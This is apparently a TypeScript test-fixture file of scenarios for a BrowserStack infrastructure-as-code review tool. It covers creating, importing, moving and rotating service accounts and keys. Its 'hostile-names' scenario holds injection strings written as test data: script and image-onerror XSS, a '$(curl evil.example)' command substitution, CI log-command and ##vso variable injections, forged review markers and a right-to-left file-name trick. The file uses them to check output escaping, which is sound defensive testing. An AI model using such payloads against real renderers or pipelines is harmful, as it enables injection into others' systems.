import {
  ADOPT_CI,
  ADOPTED,
  account,
  adopting,
  EMPTY,
  key,
  NIGHTLY,
  PAYMENTS_CI,
  type Scenario,
  SEARCH_CI,
  team,
} from '../scenario.ts';

const NEW_ORGANIZATION = `${team()}${team('', 'search', 'Search')}
resource "browserstack_service_account" "payments" {
  identifier = "payments-ci"
  team       = browserstack_team.payments.name
}
resource "browserstack_service_account" "search" {
  identifier = "search-ci"
  team       = browserstack_team.search.name
}
resource "browserstack_service_account" "nightly" {
  identifier = "nightly"
}
resource "browserstack_access_key" "payments" {
  username          = browserstack_service_account.payments.username
  rotate_after_days = 90
  consumers         = ["GitHub: acme/payments"]
}
resource "browserstack_access_key" "search" {
  username = browserstack_service_account.search.username
}
`;

const HOSTILE = {
  identifier: 'a](https://evil.example)<img src=x onerror=alert(1)>@acme/owners',
  team: 'Pay|ments`@acme/all`',
};

export const additions: readonly Scenario[] = [
  {
    name: 'create-organization',
    says: 'ok: 2 teams, 3 accounts and their 2 keys, adopted and not rotated; nightly belongs to the organization',
    after: NEW_ORGANIZATION,
  },
  {
    name: 'add-account',
    says: 'ok: one account and its key, due in 90 days; nobody is touched; 2 requests, no waiting',
    scene: ADOPTED,
    before: ADOPT_CI + account() + key(),
    after: `${account()}${key()}
resource "browserstack_service_account" "e2e" {
  identifier = "payments-e2e"
  team       = "Payments"
}
resource "browserstack_access_key" "e2e" {
  username          = browserstack_service_account.e2e.username
  rotate_after_days = 90
  consumers         = ["GitHub: acme/payments-e2e"]
}
`,
  },
  {
    name: 'create-many',
    says: 'ok: 40 accounts in one row; 41 requests, about 2 min 24 s',
    scene: { ...EMPTY, env: { BROWSERSTACK_REQUEST_BURST: '5', BROWSERSTACK_REQUESTS_PER_MINUTE: '15' } },
    after: `
resource "browserstack_service_account" "fleet" {
  count      = 40
  identifier = "fleet-\${count.index}"
}
`,
  },
  {
    name: 'import-existing',
    says: 'ok: a team, two accounts and a key are taken over as they are; the age of the key counts from today',
    scene: ADOPTED,
    after: `${adopting(['ci', PAYMENTS_CI.username], ['nightly', NIGHTLY.username])}
import {
  to = browserstack_team.payments
  id = "Payments"
}
import {
  to = browserstack_access_key.ci
  id = "${PAYMENTS_CI.username}"
}
${team()}
resource "browserstack_service_account" "ci" {
  identifier = "payments-ci"
  team       = "Payments"
}
resource "browserstack_service_account" "nightly" {
  identifier = "nightly"
  consumers  = ["Jenkins: nightly"]
}
resource "browserstack_access_key" "ci" {
  username          = browserstack_service_account.ci.username
  rotate_after_days = 90
}
`,
  },
  {
    name: 'adopt-with-age',
    says: 'ok: two keys are adopted: one counts from 2025-12-01, one is to be rotated at the next opportunity',
    scene: ADOPTED,
    after: `
resource "browserstack_access_key" "ci" {
  username          = "${PAYMENTS_CI.username}"
  rotate_after_days = 120
  adopted_key_age   = "2025-12-01"
  consumers         = ["GitHub: acme/payments"]
}
resource "browserstack_access_key" "search" {
  username          = "${SEARCH_CI.username}"
  rotate_after_days = 120
  adopted_key_age   = "due"
  consumers         = ["GitHub: acme/search"]
}
`,
  },
  {
    name: 'moved-block',
    says: 'ok: the account and its key get another address, nothing else',
    scene: ADOPTED,
    before: ADOPT_CI + account() + key(),
    after: `${account('', 'pipeline')}${key('', 'pipeline', 'browserstack_service_account.pipeline.username')}
moved {
  from = browserstack_service_account.ci
  to   = browserstack_service_account.pipeline
}
moved {
  from = browserstack_access_key.ci
  to   = browserstack_access_key.pipeline
}
`,
  },
  {
    name: 'people-invited',
    says: 'look: two people are invited, one as an admin of the whole organization',
    scene: EMPTY,
    after: `
resource "browserstack_user" "jane" {
  email     = "jane@acme.test"
  full_name = "Jane Doe"
  role      = "admin"
}
resource "browserstack_user" "joe" {
  email     = "joe@acme.test"
  full_name = "Joe Doe"
  team      = "Payments"
  products  = ["automate"]
}
`,
  },
  {
    name: 'too-many-parallels',
    says: 'ok: two teams are taken over; together they have more parallels than the organization',
    scene: {
      organization: { name: 'Acme Inc.', parallels: { automate: 10 } },
      teams: [
        { name: 'Payments', parallels: { automate: 8 } },
        { name: 'Search', parallels: { automate: 7 } },
      ],
    },
    after: `
data "browserstack_parallels" "ledger" {}
import {
  to = browserstack_team.payments
  id = "Payments"
}
import {
  to = browserstack_team.search
  id = "Search"
}
${team()}${team('', 'search', 'Search')}`,
  },
  {
    name: 'hostile-names',
    says: 'ok, and every name is harmless: no link, image, mention, closing tag, forged marker, log command, table',
    scene: { teams: [{ name: HOSTILE.team }] },
    after: `
resource "browserstack_service_account" "evil" {
  identifier = "${HOSTILE.identifier}"
  team       = "${HOSTILE.team}"
  consumers = [
    "<!-- browserstack-iac:review -->",
    "[//]: <> (browserstack-iac:review:v1 stack=default)",
    "| a | b |\\n|---|---|",
    "\\u202egnp.exe",
    "</details></summary><script>alert(1)</script>",
    "fixes #1, closes acme/x#2",
    "::error file=x::boom",
    "##vso[task.setvariable variable=x]y",
    "\`\`\`\\nend",
    "$(curl evil.example)",
    "FAIL - 3 failures",
  ]
}
resource "browserstack_access_key" "evil" {
  username  = browserstack_service_account.evil.username
  consumers = ["&lt;b&gt; **bold** _it_ ~~no~~ $x^2$ :tada: %0A::warning::x"]
}
`,
  },
  {
    name: 'vanished-account-made-again',
    says: 'look: the account was deleted elsewhere and is made again: its user name and key are others',
    scene: ADOPTED,
    before: ADOPT_CI + account() + key('rotate_after_days = 90'),
    after: account() + key('rotate_after_days = 90'),
    elsewhere: [['DELETE', `/user/service-accounts?username=${PAYMENTS_CI.username}`]],
  },
];
